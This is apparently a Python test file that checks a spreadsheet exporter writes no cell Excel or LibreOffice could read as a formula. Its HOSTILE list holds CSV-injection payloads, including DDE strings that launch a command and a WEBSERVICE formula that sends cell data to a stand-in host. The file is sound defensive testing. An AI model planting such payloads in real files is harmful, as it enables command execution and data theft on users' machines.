"""Sheets as CSV and JSON: no formula in any spreadsheet, and nothing lost for a program."""

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from circle.formats.sheets import Sheet, set_free, sheet_csv, sheets_json
from circle.rules.states import SetAside, Synergy
from tests.conftest import NOT_FOUND
from tests.formats.people.test_csv_out import FORMULAS
from tests.hostile import hostile

AT = datetime(2026, 11, 2, 9, 30, tzinfo=ZoneInfo("Europe/Berlin"))
SHEET = Sheet(
    "made",
    ("made_on", "synergy", "late", "said", "note", "kind"),
    (
        (date(2026, 11, 2), Synergy.TEAM_UP, True, AT, None, SetAside.LATER),
        (None, None, False, None, "Zoë", None),
    ),
)
HOSTILE = [
    *FORMULAS,
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.example/"&A1)',
    "=1+1;=2+2",
    '","=1+1',
    '"\r\n"=1+1"',
    "＝1+1",
    "＠SUM(A1)",
    "Rosa;=1+1;",
    "Rosa\t@SUM(A1)\t",
    "Rosa\n-1+1;",
    'Rosa;"=1+1;',
    "Rosa;'=1+1;",
]


FORMULA = re.compile(r"[\t\r\n]*[=+\-@＝＋－＠]")
typed = hostile | st.text("'\"=+-@＝;,\t\r\n a", max_size=12)


def rows(wire: bytes, delimiter: str = ",") -> list[list[str]]:
    """Return the cells as a spreadsheet finds them that parts cells by this delimiter."""
    text = io.StringIO(wire.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter, strict=delimiter == ","))


def test_csv_says_columns_and_values_in_words():
    assert rows(sheet_csv(SHEET)) == [
        ["Made on", "Synergy", "Late", "Said", "Note", "Kind"],
        ["2026-11-02", "Could team up", "yes", "2026-11-02 09:30", "", "later"],
        ["", "", "no", "", "Zoë", ""],
    ]


def test_csv_begins_with_the_mark_by_which_excel_knows_utf_8():
    assert sheet_csv(SHEET).startswith(b"\xef\xbb\xbf")


def test_json_says_them_as_they_are_kept():
    told = json.loads(sheets_json({"name": "Zoë", "file": "Zoë;Né".encode("utf-16-le")}, [SHEET]))
    assert told == {
        "name": "Zoë",
        "file": "Zoë;Né",
        "made": [
            {
                "made_on": "2026-11-02",
                "synergy": "team_up",
                "late": True,
                "said": "2026-11-02T09:30:00+01:00",
                "note": None,
                "kind": "later",
            },
            {"made_on": None, "synergy": None, "late": False, "said": None, "note": "Zoë", "kind": None},
        ],
    }


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_as_a_formula_does_whatever_a_spreadsheet_parts_cells_by(text, delimiter):
    wire = sheet_csv(Sheet("hostile", ("one", "two"), ((text, text), ("Zoë", text))))
    cells = [cell for row in rows(wire, delimiter) for cell in row]
    assert not [cell for cell in cells if FORMULA.match(cell)]


def test_what_holds_no_formula_is_written_as_it_is():
    texts = ("Rosa; Ben - both", "2026-11-02", "a=b; c", "1-2;3", "'quoted'", "x\r\ny", "ben@example.org")
    assert rows(sheet_csv(Sheet("calm", ("one",) * len(texts), (texts,))))[1] == list(texts)


@settings(deadline=None, derandomize=True, database=None, max_examples=200)
@given(st.lists(st.tuples(typed, typed), max_size=5))
def test_whatever_is_typed_stays_in_its_cell(typed):
    typed = [tuple(cell.encode("utf-8", "replace").decode() for cell in row) for row in typed]
    wire = sheet_csv(Sheet("hostile", ("one", "two"), tuple(typed)))
    assert [tuple(set_free(cell) for cell in row) for row in rows(wire)[1:]] == typed
    for delimiter in ",;\t":
        cells = [cell for row in rows(wire, delimiter) for cell in row]
        assert not [cell for cell in cells if FORMULA.match(cell)]


def test_libreoffice_finds_no_formula(tmp_path: Path):
    """Opened as somebody would who clicks on it, with LibreOffice's own guess of what a file is."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip(f"LibreOffice (soffice) {NOT_FOUND}")
    file = tmp_path / "hostile.csv"
    file.write_bytes(
        sheet_csv(Sheet("hostile", ("zoë", "two"), tuple((text, f"{text} ") for text in HOSTILE)))
    )
    home = f"-env:UserInstallation={(tmp_path / 'home').as_uri()}"
    # Commas, quotes, UTF-8: what the window that asks suggests. Values are guessed, as it does by itself.
    as_suggested = "--infilter=CSV:44,34,76,1,,0,false,true"
    told = [
        office,
        "--headless",
        home,
        as_suggested,
        "--convert-to",
        "fods",
        "--outdir",
        str(tmp_path),
        str(file),
    ]
    subprocess.run(told, check=True, capture_output=True, timeout=240)
    opened = (tmp_path / "hostile.fods").read_text(encoding="utf-8")
    cells = re.findall(r"<table:table-cell[^>]*value-type[^>]*>", opened)
    assert len(cells) == 2 * (1 + len(HOSTILE))
    assert all('office:value-type="string"' in cell for cell in cells)
    assert "formula" not in opened
    assert "<text:p>Zoë</text:p>" in opened
